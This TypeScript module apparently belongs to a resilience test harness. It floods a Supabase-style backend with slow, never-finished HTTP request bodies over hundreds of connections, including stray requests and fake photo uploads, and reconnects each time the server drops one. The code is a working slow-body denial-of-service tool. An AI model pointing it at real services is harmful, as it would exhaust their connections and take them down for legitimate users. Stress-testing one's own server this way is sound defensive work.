// Visitors' floods of unfinished bodies: nine megabytes are announced or streamed on each connection and never end.
import { randomUUID } from 'node:crypto'
import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import type { FloodTarget } from './pictures.ts'

export interface HeldBodies {
  /** Connections the server closed or answered. */
  readonly ended: number
  readonly sentMegabytes: number
}

const BODY_BYTES = 9 * 1024 * 1024
const CHUNK = Buffer.alloc(64 * 1024, 32)
const CHUNK_IN_FRAME = Buffer.concat([Buffer.from(`${CHUNK.length.toString(16)}\r\n`), CHUNK, Buffer.from('\r\n')])
/** With 500 connections as much as a line of a gigabit carries: more would measure this machine's loopback. */
const PAUSE_MS = 250

interface Unfinished {
  readonly head: string
  readonly isChunked: boolean
  readonly piece: Buffer
}

type Begin = (lane: number) => Unfinished

const announced = (head: string): Unfinished => ({ head, isChunked: false, piece: CHUNK })
const inChunks = (head: string): Unfinished => ({ head, isChunked: true, piece: CHUNK_IN_FRAME })

const CALL = 'POST /rest/v1/rpc/application_state'
export const floodBodies = (target: FloodTarget) =>
  flood(target, (lane) => (lane % 2 === 1 ? inChunks(CALL) : announced(CALL)))

/** Where no body belongs, and with a token that has to be looked at first. */
const STRAYS: readonly Unfinished[] = [
  announced('GET /rest/v1/posts?select=id'),
  inChunks('GET /storage/v1/object/public/profile-photos/applications/none.jpg'),
  announced('POST /'),
  inChunks('POST /apply'),
  announced(`${CALL}?apikey=made-up`),
]
export const floodStrayBodies = (target: FloodTarget) =>
  flood(target, (lane) => STRAYS[lane % STRAYS.length] ?? announced('POST /'))

export const floodUploads = (target: FloodTarget) =>
  flood(target, (lane) => {
    const key = `applications/${Date.now()}-${randomUUID().replaceAll('-', '')}.jpg`
    const head = `POST /storage/v1/object/profile-photos/${key}`
    return lane % 2 === 1 ? inChunks(head) : announced(head)
  })

async function flood({ url, anonKey, connections, signal }: FloodTarget, begin: Begin): Promise<HeldBodies> {
  const { port, hostname } = new URL(url)
  let ended = 0
  let sentBytes = 0
  const sockets = new Set<Socket>()

  const open = (lane: number) => {
    const socket = connect({
      port: Number(port),
      host: hostname,
      localAddress: `127.0.${2 + (lane % 4)}.${1 + (lane % 50)}`,
    })
    const { head, isChunked, piece } = begin(lane)
    const length = isChunked ? 'Transfer-Encoding: chunked' : `Content-Length: ${BODY_BYTES}`
    let sent = 0
    const write = async () => {
      while (sent < BODY_BYTES - piece.length && !socket.destroyed && !signal.aborted) {
        // What the server does not read stays with the sender.
        if (!socket.writableNeedDrain) {
          sent += piece.length
          sentBytes += piece.length
          socket.write(piece)
        }
        await sleep(PAUSE_MS)
      }
    }
    let isOver = false
    const over = () => {
      if (!isOver) ended += 1
      isOver = true
      sockets.delete(socket)
      socket.destroy()
    }
    socket.on('connect', () => {
      const type = head.includes('/storage/') ? 'image/jpeg' : 'application/json'
      socket.write(`${head} HTTP/1.1\r\nHost: o1\r\napikey: ${anonKey}\r\nContent-Type: ${type}\r\n${length}\r\n\r\n`)
      void write()
    })
    // An attacker opens the next when one is ended.
    socket.on('data', over)
    socket.on('error', over)
    socket.on('close', () => {
      over()
      if (!signal.aborted) setTimeout(() => signal.aborted || open(lane), 1000)
    })
    sockets.add(socket)
  }

  for (let lane = 0; lane < connections; lane++) open(lane)
  await new Promise<void>((resolve) => signal.addEventListener('abort', () => resolve(), { once: true }))
  for (const socket of sockets) socket.destroy()
  return { ended, sentMegabytes: Math.round(sentBytes / 1024 / 1024) }
}
